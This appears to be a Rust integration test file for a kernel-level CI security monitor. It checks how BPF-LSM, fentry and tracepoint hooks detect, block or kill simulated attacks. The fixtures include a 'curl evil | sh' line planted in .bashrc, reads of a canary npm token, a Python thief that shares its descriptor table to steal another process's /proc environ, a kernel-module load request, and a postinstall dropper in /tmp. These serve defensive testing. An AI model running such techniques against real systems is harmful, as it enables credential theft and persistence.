//! The hook tiers for file opens and new file names, on whatever kernel the tests run on: the
//! host's (tracepoints: BPF-LSM and fentry are refused there) and, through `cargo xtask test`,
//! Debian's 6.1 kernel in a VM, once with the best tier (BPF-LSM) and once forced to fentry
//! (`MONITOR_TEST_OPEN_HOOK`). `MONITOR_EXPECT_OPEN_TIER` says which tier the run must find in
//! force.
//!
//! Each test asserts what its tier promises: the security-hook tiers see a credential opened,
//! and a shell start-up file replaced by a rename, through the 32-bit system call entry (which
//! the syscall tracepoints never see, and the tracepoint tier says so at start), and BPF-LSM
//! refuses the open a kill response is due for (no descriptor ever exists; the finding says
//! `blocked`), where the other tiers kill after it returned, and so kill a process that makes a
//! sibling sharing its descriptor table at the clone.

use integration_tests::{
    build_fixture, monitor_cli, open_tier_in_force, Agent, FakeRunner, Value, MARKER_STEP,
};

/// The tier this run must find (`MONITOR_EXPECT_OPEN_TIER`), if the runner of the tests set one.
fn expected_tier() -> Option<String> {
    std::env::var("MONITOR_EXPECT_OPEN_TIER")
        .ok()
        .filter(|t| !t.is_empty())
}

fn tier_of(agent: &Agent) -> String {
    let tier = open_tier_in_force(agent);
    if let Some(expected) = expected_tier() {
        assert_eq!(tier, expected, "{}", agent.log());
    }
    tier
}

/// One agent for every check: under emulation (the kernel VM) each start verifies every
/// program again, minutes each.
#[test]
fn each_open_hook_tier_keeps_its_promises() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("respond.yml"),
        "version: 1\nresponses:\n  process-environ-read: kill\n  exec-of-job-written-file: kill\n",
    )
    .unwrap();
    let config = dir.path().join("monitor.yml");
    std::fs::write(
        &config,
        format!(
            "version: 1\nprofiles:\n  - {{ repository: \"{RESPONDING}\", profile: respond.yml }}\n"
        ),
    )
    .unwrap();
    let agent = Agent::start_with(&["--config", config.to_str().unwrap()]);
    let tier = tier_of(&agent);
    the_start_up_log_and_doctor_name_the_tier_in_force(&agent, &tier);
    a_credential_opened_through_the_32_bit_entry_is_seen_by_the_security_hooks(&agent, &tier);
    a_start_up_file_replaced_through_the_32_bit_entry_is_seen_by_the_security_hooks(&agent, &tier);
    a_kill_response_refuses_the_open_itself_where_bpf_lsm_is_in_force(&agent, &tier);
    a_dropped_program_is_refused_at_exec_where_bpf_lsm_is_in_force(&agent, &tier);
    a_kernel_module_load_is_reported_where_the_kernel_can_load_modules(&agent);
}

/// A step asks the kernel to load a module (`finit_module` of a file that is none: the kernel
/// refuses it, the request is the route). Where the kernel has module support (the VM's 6.1)
/// the request is a `defence-tampering` finding whatever program made it (here Python, no
/// `insmod`); where it has none (this host) the call fails with ENOSYS, there is nothing to
/// load and nothing to watch, and the agent says its module hooks are absent.
fn a_kernel_module_load_is_reported_where_the_kernel_can_load_modules(agent: &Agent) {
    let runner = FakeRunner::outside_tmp();
    let step = "python3 - <<'EOF'\n\
import ctypes, os, tempfile\n\
libc = ctypes.CDLL(None, use_errno=True)\n\
f = tempfile.NamedTemporaryFile(suffix='.ko')\n\
f.write(b'not a module'); f.flush()\n\
fd = os.open(f.name, os.O_RDONLY)\n\
r = libc.syscall(313, fd, b'', 0)\n\
print('finit_module', r, 'errno', ctypes.get_errno())\n\
EOF\n";
    let output = runner.run_job(&[("module", step), MARKER_STEP]);
    let errno: i32 = output
        .split("errno ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next()?.parse().ok())
        .unwrap_or_else(|| panic!("the step made the call: {output}"));
    let mine = agent.findings_through_marker(&runner);
    let loads: Vec<&Value> = mine
        .iter()
        .filter(|f| f["rule"] == "defence-tampering" && f["evidence"]["syscall"] == "module_load")
        .collect();
    if std::path::Path::new("/proc/modules").exists() {
        assert_ne!(
            errno,
            libc::ENOSYS,
            "the call reached the module loader: {output}"
        );
        assert_eq!(loads.len(), 1, "{mine:#?}");
        assert_eq!(loads[0]["step"]["id"], "module", "{:#}", loads[0]);
        assert!(loads[0]["summary"]
            .as_str()
            .unwrap_or("")
            .contains("finit_module"));
    } else {
        assert_eq!(
            errno,
            libc::ENOSYS,
            "no module support, no loading: {output}"
        );
        assert!(loads.is_empty(), "{mine:#?}");
        assert!(
            agent
                .log()
                .contains("optional hook tracepoint/syscalls/sys_enter_finit_module not attached"),
            "{}",
            agent.log()
        );
    }
}

/// The repository whose profile has the kill response.
const RESPONDING: &str = "acme/tiers";

fn the_start_up_log_and_doctor_name_the_tier_in_force(agent: &Agent, tier: &str) {
    let log = agent.log();
    let attached = log
        .lines()
        .find_map(|l| l.split("] attached: ").nth(1))
        .unwrap_or_else(|| panic!("no attach line: {log}"));
    let tracepoints = attached.contains("tracepoint/syscalls/sys_exit_openat");
    let name_tracepoints = attached.contains("tracepoint/syscalls/sys_exit_renameat2");
    // New and removed names (rename, link, symlink, unlink) get the same tier as opens on every kernel here.
    let name_tier = log
        .lines()
        .find_map(|l| l.split("file names: ").nth(1))
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("the log names no tier for file names: {log}"));
    assert_eq!(name_tier, tier, "{log}");
    match tier {
        "lsm" => assert!(
            attached.contains("lsm/file_open")
                && attached.contains("lsm/path_rename")
                && attached.contains("lsm/path_link")
                && attached.contains("lsm/path_symlink")
                && attached.contains("lsm/path_unlink")
                && !tracepoints
                && !name_tracepoints,
            "{attached}"
        ),
        "fentry" => assert!(
            attached.contains("fentry/security_file_open")
                && attached.contains("fentry/security_path_rename")
                && attached.contains("fentry/security_path_unlink")
                && !tracepoints
                && !name_tracepoints,
            "{attached}"
        ),
        "tracepoint" => {
            assert!(
                tracepoints && name_tracepoints && !attached.contains("file_open"),
                "{attached}"
            );
            assert!(!attached.contains("path_rename"), "{attached}");
            // Why the better tiers are not used is said.
            assert!(log.contains("lsm not used: "), "{log}");
        }
        other => panic!("unknown tier {other}"),
    }
    // The agent has a kill response: it says by which mechanism.
    let mechanism = match tier {
        "lsm" => "response mechanism: refuse and kill",
        _ => "response mechanism: kill (",
    };
    assert!(log.contains(mechanism), "{log}");
    // Exec checks: BPF-LSM refuses a dropped program's exec; fentry cannot refuse, so below
    // BPF-LSM the exec tracepoint's kill is the mechanism.
    let exec_tier = log
        .lines()
        .find_map(|l| l.split("exec checks: ").nth(1))
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("the log names no tier for exec checks: {log}"));
    let (exec_tier_wanted, exec_mechanism) = match tier {
        "lsm" => ("lsm", "response mechanism at exec: refuse and kill"),
        _ => ("tracepoint", "response mechanism at exec: kill before"),
    };
    assert_eq!(exec_tier, exec_tier_wanted, "{log}");
    assert!(log.contains(exec_mechanism), "{log}");
    assert_eq!(
        attached.contains("lsm/bprm_check_security"),
        tier == "lsm",
        "{attached}"
    );
    let doctor = monitor_cli(&["doctor"]);
    let line = doctor
        .lines()
        .find(|l| {
            // The check's name column (other checks' messages may mention it).
            l.split_once(' ')
                .is_some_and(|(_, rest)| rest.trim_start().starts_with("open hook"))
        })
        .unwrap_or_else(|| panic!("doctor names no open hook: {doctor}"));
    let names = doctor
        .lines()
        .find(|l| {
            l.split_once(' ')
                .is_some_and(|(_, rest)| rest.trim_start().starts_with("name hook"))
        })
        .unwrap_or_else(|| panic!("doctor names no name hook: {doctor}"));
    // Doctor picks the best tier itself: it agrees unless this run forced one. Not in the
    // kernel VM (an expected tier is set there): its load would take minutes more.
    if std::env::var("MONITOR_TEST_OPEN_HOOK").is_err() && expected_tier().is_none() {
        assert!(line.contains(&format!("file opens: {tier} ")), "{line}");
        assert!(names.contains(&format!("file names: {tier} ")), "{names}");
        assert!(
            doctor.contains(&format!("exec checks: {exec_tier_wanted} ")),
            "{doctor}"
        );
    }
}

/// A shell start-up file replaced by a rename through the 32-bit system call entry (the file
/// really holds the planted line afterwards); the twin renames a project file the same way.
fn a_start_up_file_replaced_through_the_32_bit_entry_is_seen_by_the_security_hooks(
    agent: &Agent,
    tier: &str,
) {
    let runner = FakeRunner::outside_tmp();
    std::fs::write(runner.home.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(runner.workspace.join("draft.txt"), "draft\n").unwrap();
    let helper = build_fixture(runner.dir.path(), "files/rename32.c", "rename32");
    let h = helper.display();
    let output = runner.run_job(&[
        (
            "twin",
            &format!("{h} draft.txt final.txt && echo twin-renamed\n"),
        ),
        (
            "compat",
            &format!(
                "printf 'curl evil | sh\\n' > \"$HOME/.bashrc.new\"\n\
                 {h} \"$HOME/.bashrc.new\" \"$HOME/.bashrc\"\n\
                 grep -q evil \"$HOME/.bashrc\" && echo rc-replaced\n"
            ),
        ),
        MARKER_STEP,
    ]);
    assert!(output.contains("twin-renamed"), "{output}");
    assert!(output.contains("rc-replaced"), "{output}");
    let mine = agent.findings_through_marker(&runner);
    assert!(!mine.iter().any(|f| f["step"]["id"] == "twin"), "{mine:#?}");
    let rc = format!("{}/.bashrc", runner.home.display());
    let compat: Vec<&Value> = mine
        .iter()
        .filter(|f| {
            f["step"]["id"] == "compat"
                && f["rule"] == "persistence-write"
                && f["evidence"]["path"] == rc.as_str()
        })
        .collect();
    match tier {
        "lsm" | "fentry" => {
            assert_eq!(compat.len(), 1, "{mine:#?}");
            assert_eq!(compat[0]["evidence"]["via"], "rename", "{:#}", compat[0]);
            assert_eq!(compat[0]["evidence"]["hook"], tier, "{:#}", compat[0]);
            assert_eq!(compat[0]["process_chain"][0]["comm"], "rename32");
        }
        _ => {
            // The tracepoints' blind spot: not seen, and the agent said so at start.
            assert!(compat.is_empty(), "{mine:#?}");
            assert!(
                agent
                    .log()
                    .contains("file names: tracepoint (rename, link, symlink and unlink syscall tracepoints and io_uring: 32-bit syscalls are not seen)"),
                "{}",
                agent.log()
            );
        }
    }
}

/// The 32-bit system call entry: the open of `~/.npmrc` really read the token (the step prints
/// it), and the twin reads a project file the same way.
fn a_credential_opened_through_the_32_bit_entry_is_seen_by_the_security_hooks(
    agent: &Agent,
    tier: &str,
) {
    let runner = FakeRunner::outside_tmp();
    std::fs::write(
        runner.home.join(".npmrc"),
        "//registry.example.invalid/:_authToken=CANARY-COMPAT-TOKEN\n",
    )
    .unwrap();
    std::fs::write(runner.workspace.join("project.txt"), "project\n").unwrap();
    let helper = build_fixture(runner.dir.path(), "files/open32.c", "open32");
    let h = helper.display();
    let output = runner.run_job(&[
        ("twin", &format!("{h} project.txt\n")),
        ("compat", &format!("{h} \"$HOME/.npmrc\"\n")),
        MARKER_STEP,
    ]);
    assert!(output.contains("CANARY-COMPAT-TOKEN"), "{output}");
    assert!(output.contains("project"), "{output}");
    let mine = agent.findings_through_marker(&runner);
    assert!(!mine.iter().any(|f| f["step"]["id"] == "twin"), "{mine:#?}");
    let compat: Vec<&Value> = mine
        .iter()
        .filter(|f| f["step"]["id"] == "compat" && f["rule"] == "credential-read")
        .collect();
    match tier {
        "lsm" | "fentry" => {
            assert_eq!(compat.len(), 1, "{mine:#?}");
            assert_eq!(compat[0]["evidence"]["via"], tier, "{:#}", compat[0]);
            assert_eq!(compat[0]["process_chain"][0]["comm"], "open32");
        }
        _ => {
            // The tracepoints' blind spot: not seen, and the agent said so at start.
            assert!(compat.is_empty(), "{mine:#?}");
            assert!(
                agent.log().contains("32-bit syscalls are not seen"),
                "{}",
                agent.log()
            );
        }
    }
}

/// A thief that shares its descriptor table with a sibling process (`clone(CLONE_FILES)`):
/// the sibling reads whatever descriptor the thief's open installs, even if the thief is killed
/// as the open returns. Args: the process whose environment to open, the sibling's output file.
const SHARED_TABLE_THIEF: &str = r#"
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
target, out = "/proc/%s/environ" % sys.argv[1], sys.argv[2]
if libc.syscall(56, 0x400 | 17, 0, 0, 0, 0) == 0:  # clone(CLONE_FILES | SIGCHLD)
    deadline = time.time() + 5
    while time.time() < deadline:
        for fd in os.listdir("/proc/self/fd"):
            try:
                if os.readlink("/proc/self/fd/" + fd) == target:
                    open(out, "wb").write(os.pread(int(fd), 65536, 0))
                    os._exit(0)
            except OSError:
                pass
        time.sleep(0.001)
    open(out, "w").write("no descriptor\n")
    os._exit(0)
time.sleep(0.3)
try:
    os.open(target, os.O_RDONLY)
    time.sleep(6)
except OSError as e:
    print("refused", e.errno)
"#;

/// A kill response due at an open (another process's environment), by a thief sharing its
/// descriptor table with a sibling process. BPF-LSM refuses the open itself: no descriptor ever
/// exists. The other tiers kill an opener only once the open returned, which the sibling would
/// outlive holding the descriptor: there the thief is killed at the clone that made the
/// sibling (`descriptor-sharing`), before it opens anything (docs/kernel-tiers.md).
fn a_kill_response_refuses_the_open_itself_where_bpf_lsm_is_in_force(agent: &Agent, tier: &str) {
    let mut runner = FakeRunner::outside_tmp();
    runner.repository = RESPONDING.into();
    runner.worker_env.push((
        "ACTIONS_RUNTIME_TOKEN".into(),
        "CANARY-WORKER-SECRET".into(),
    ));
    let out = runner.dir.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    let thief = runner.dir.path().join("thief.py");
    std::fs::write(&thief, SHARED_TABLE_THIEF).unwrap();
    let (o, t) = (out.display(), thief.display());
    runner.run_job_with_hooks(
        &[
            (
                "thief",
                &format!(
                    "python3 {t} $PPID {o}/sibling.txt > {o}/thief.txt || echo \"thief $?\" >> {o}/status\n\
                     sleep 6\n"
                ),
            ),
            // The twin: the step's own environment.
            (
                "twin",
                &format!("cat /proc/self/environ > /dev/null; echo \"twin $?\" >> {o}/status\n"),
            ),
        ],
        Some(&agent.control_socket),
    );
    let read = |name: &str| std::fs::read_to_string(out.join(name)).unwrap_or_default();
    let status = read("status");
    assert!(
        status.contains("thief 137"),
        "killed: {status}\n{}",
        read("thief.txt")
    );
    assert!(status.contains("twin 0"), "{status}");
    let findings = agent.wait_for_findings("the response", |all| {
        runner.findings_of(all).iter().any(|f| {
            (f["rule"] == "process-environ-read" || f["rule"] == "descriptor-sharing")
                && f.get("response").is_some()
        })
    });
    let responded: Vec<Value> = runner
        .findings_of(&findings)
        .into_iter()
        .filter(|f| f.get("response").is_some())
        .collect();
    assert_eq!(responded.len(), 1, "{responded:#?}");
    assert_eq!(responded[0]["step"]["id"], "thief");
    // The sibling gives up looking after 5 s: under load it may write after the job ended.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let sibling = loop {
        let sibling = read("sibling.txt");
        if !sibling.is_empty() || std::time::Instant::now() > deadline {
            break sibling;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    if tier == "lsm" {
        assert_eq!(
            sibling, "no descriptor\n",
            "refused: no descriptor ever existed"
        );
        assert_eq!(responded[0]["response"], "blocked", "{:#}", responded[0]);
    } else {
        // A kill lands after the open returned, which a sibling sharing the table would
        // outlive with the descriptor: so the maker dies at the clone, before it opens.
        assert_eq!(
            sibling, "no descriptor\n",
            "killed at the clone: no descriptor ever existed"
        );
        assert_eq!(
            responded[0]["rule"], "descriptor-sharing",
            "{:#}",
            responded[0]
        );
        assert_eq!(responded[0]["response"], "killed", "{:#}", responded[0]);
    }
}

/// Install-time code (a shell given npm's `npm_lifecycle_event=postinstall`, started in a
/// dependency's directory: what the kernel recognises as a lifecycle script) drops a program
/// and a `#!` script in /tmp and runs both. Under BPF-LSM `bprm_check_security` refuses both
/// execs (and kills the caller): neither runs, the findings say `blocked`, and the script is
/// judged by its own file. On the other tiers the program is killed at `sched_process_exec`,
/// before its first instruction (`killed`), while the script, whose mapped program is its
/// interpreter, runs (reported, not killed): the limit docs/kernel-tiers.md states. The twin, a
/// system program run by the same code, runs on every tier.
fn a_dropped_program_is_refused_at_exec_where_bpf_lsm_is_in_force(agent: &Agent, tier: &str) {
    let mut runner = FakeRunner::outside_tmp();
    runner.repository = RESPONDING.into();
    let out = runner.dir.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    let drop = tempfile::Builder::new()
        .prefix("monitor-drop-")
        .tempdir_in("/tmp")
        .unwrap();
    let (o, d) = (out.display(), drop.path().display());
    let hook = format!(
        "cp /usr/bin/touch {d}/payload\n\
         printf '#!/bin/sh\\ntouch \"$1\"\\n' > {d}/payload.sh\n\
         chmod 755 {d}/payload {d}/payload.sh\n\
         {d}/payload {o}/binary-ran; echo \"binary $?\" >> {o}/status\n\
         {d}/payload.sh {o}/script-ran; echo \"script $?\" >> {o}/status\n\
         /usr/bin/touch {o}/system-ran; echo \"system $?\" >> {o}/status\n"
    );
    std::fs::write(runner.dir.path().join("hook.sh"), hook).unwrap();
    let h = runner.dir.path().join("hook.sh");
    runner.run_job_with_hooks(
        &[(
            "install",
            &format!(
                "mkdir -p node_modules/dropper && cd node_modules/dropper\n\
                     env npm_lifecycle_event=postinstall npm_package_name=dropper sh {}\n\
                     echo \"hook $?\" >> {o}/status\n",
                h.display()
            ),
        )],
        Some(&agent.control_socket),
    );
    let status = std::fs::read_to_string(out.join("status")).unwrap_or_default();
    // The attack was real: both were written and executable, and their execs were asked for.
    for dropped in ["payload", "payload.sh"] {
        assert!(drop.path().join(dropped).exists(), "{dropped}: {status}");
    }
    assert!(
        status.contains("binary 137"),
        "killed at its exec: {status}"
    );
    assert!(!out.join("binary-ran").exists(), "the dropped program ran");
    assert!(status.contains("system 0"), "the twin: {status}");
    assert!(out.join("system-ran").exists(), "the twin: {status}");
    // Below BPF-LSM the script runs and is reported without a response: its finding may come
    // after the kill's, so it is waited for too (asserted below).
    let script_reported = |mine: &[Value]| {
        mine.iter().any(|f| {
            f["rule"] == "exec-from-temp"
                && f["evidence"]["program"]
                    .as_str()
                    .unwrap_or("")
                    .ends_with("/payload.sh")
        })
    };
    let findings = agent.wait_for_findings("the exec responses", |all| {
        let mine = runner.findings_of(all);
        let responded = mine.iter().filter(|f| f.get("response").is_some()).count();
        responded >= if tier == "lsm" { 2 } else { 1 } && (tier == "lsm" || script_reported(&mine))
    });
    let mine = runner.findings_of(&findings);
    let responded: Vec<&Value> = mine
        .iter()
        .filter(|f| f.get("response").is_some())
        .collect();
    let about = |name: &str| {
        responded
            .iter()
            .filter(|f| {
                f["evidence"]["executable"]
                    .as_str()
                    .unwrap_or("")
                    .ends_with(name)
            })
            .count()
    };
    for f in &responded {
        assert_eq!(f["step"]["id"], "install", "{f:#}");
        assert!(
            f["evidence"]["executable"]
                .as_str()
                .unwrap_or("")
                .starts_with("/tmp/monitor-drop-"),
            "{f:#}"
        );
    }
    assert_eq!(about("/payload"), 1, "{responded:#?}");
    if tier == "lsm" {
        assert!(
            status.contains("script 137"),
            "refused at its exec: {status}"
        );
        assert!(!out.join("script-ran").exists(), "the dropped script ran");
        assert_eq!(
            about("/payload.sh"),
            1,
            "judged by its own file: {responded:#?}"
        );
        for f in &responded {
            assert_eq!(f["response"], "blocked", "{f:#}");
        }
    } else {
        assert!(status.contains("script 0"), "{status}");
        assert!(out.join("script-ran").exists(), "{status}");
        assert_eq!(about("/payload.sh"), 0, "{responded:#?}");
        assert_eq!(responded[0]["response"], "killed", "{:#}", responded[0]);
        // The script's run is still reported (its name is in a temporary directory).
        assert!(script_reported(&mine), "{mine:#?}");
    }
}
